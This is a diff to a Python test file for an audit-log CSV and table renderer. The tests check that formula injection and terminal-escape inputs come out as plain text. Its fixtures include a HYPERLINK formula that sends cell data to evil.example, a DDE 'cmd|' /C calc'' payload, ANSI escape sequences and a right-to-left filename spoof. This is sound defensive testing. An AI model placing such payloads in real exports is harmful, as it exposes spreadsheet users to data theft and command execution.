@@ -18,6 +18,7 @@ from x3twilio import auditquery
 from x3twilio.audit import AuditLog, audit_files, read_records
 from x3twilio.auditquery import (
     CSV_COLUMNS,
+    FORMULA_START,
     Filters,
     query,
     render_csv,
@@ -201,7 +202,7 @@ def test_csv_has_a_fixed_header_and_one_row_per_record(trail):
     out = io.StringIO()
     render_csv(query(trail, Filters(record="PO1")), out)
     rows = list(csv.DictReader(io.StringIO(out.getvalue())))
-    assert out.getvalue().splitlines()[0] == ",".join(CSV_COLUMNS)
+    assert out.getvalue().splitlines()[0] == ",".join(f'"{c}"' for c in CSV_COLUMNS)
     assert [r["event"] for r in rows] == [
         "notification.queued",
         "notification.failed",
@@ -603,6 +604,52 @@ def test_worker_processes_report_corruption_with_its_line(trail, monkeypatch, in
     assert in_parallel
 
 
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_csv_never_leaves_a_cell_that_a_spreadsheet_runs_as_a_formula(start):
+    hostile = f'{start}HYPERLINK("http://evil.example/?"&A1,"click")'
+    rec = {"event": "inbound.received", "from": "+33612345678", "body": hostile}
+    rec |= {"reference": f"{start}1+2", "record": f"{start}cmd|' /C calc'!A0", "to": start}
+    out = io.StringIO()
+    render_csv([rec], out)
+    (row,) = csv.DictReader(io.StringIO(out.getvalue()))
+    for column in ("body", "reference", "record", "to"):
+        assert row[column] == "'" + str(rec[column]), column  # text, whole, after one quote
+    assert all(
+        not cell.startswith(FORMULA_START) or cell == "+33612345678" for cell in row.values()
+    )
+
+
+def test_csv_keeps_e164_numbers_and_plain_numbers_exactly_and_quotes_every_cell():
+    rec = {"event": "notification.failed", "to": "+33612345678", "attempt": 2}
+    rec |= {"error": {"code": -1, "message": "-5 units", "permanent": False}, "body": "+1.5"}
+    out = io.StringIO()
+    render_csv([rec], out)
+    line = out.getvalue().splitlines()[1]
+    assert '"+33612345678"' in line and '"-1"' in line and '"+1.5"' in line
+    assert '"\'-5 units"' in line  # text that starts with - is defused, numbers are not
+    (row,) = csv.DictReader(io.StringIO(out.getvalue()))
+    assert (row["to"], row["error_code"], row["attempt"]) == ("+33612345678", "-1", "2")
+    assert all(cell.startswith('"') and cell.endswith('"') for cell in line.split(","))
+
+
+def test_tables_show_markup_and_escape_sequences_in_data_as_text(trail):
+    log = AuditLog(trail, "run-markup", Clock(T0 + timedelta(days=3)))
+    body = "[bold]PO1[/] ok [/] [link=http://evil.example]x \u202egnp.exe"
+    log.write("inbound.received", id="SMx", channel="sms", status="received", body=body,
+              reference="[/]", to=OURS, matched=None, **{"from": UNKNOWN})  # fmt: skip
+    notify(log, "notification.sent", "[/]\x1b[2J\x1b]0;pwned\x07", provider_id="SM[bold]")
+    log.close()
+    console = Console(file=io.StringIO(), force_terminal=True, width=400, color_system=None)
+    render_table(query(trail, Filters(since=T0 + timedelta(days=3))), console)
+    render_story(story(trail, "[/]"), console, "[/]")
+    render_summary(summary(query(trail, Filters())), console)
+    shown = console.file.getvalue()
+    assert "[bold]PO1[/] ok [/] [link=http://evil.example]x" in shown and "SM[bold]" in shown
+    assert "[/]\\x1b[2J\\x1b]0;pwned\\x07" in shown and "\\u202egnp.exe" in shown
+    assert "\x1b" not in shown and "\x07" not in shown and "\u202e" not in shown
+    assert "[/]: 1 events" in shown  # the story's title, also plain text
+
+
 def test_csv_defuses_formulas_in_untrusted_text_but_keeps_phone_numbers(tmp_path):
     import io as _io
 
@@ -614,4 +661,4 @@ def test_csv_defuses_formulas_in_untrusted_text_but_keeps_phone_numbers(tmp_path
         out,
     )
     text = out.getvalue()
-    assert "'=HYPERLINK" in text and ",+33612345678," in text
+    assert "'=HYPERLINK" in text and ',"+33612345678",' in text
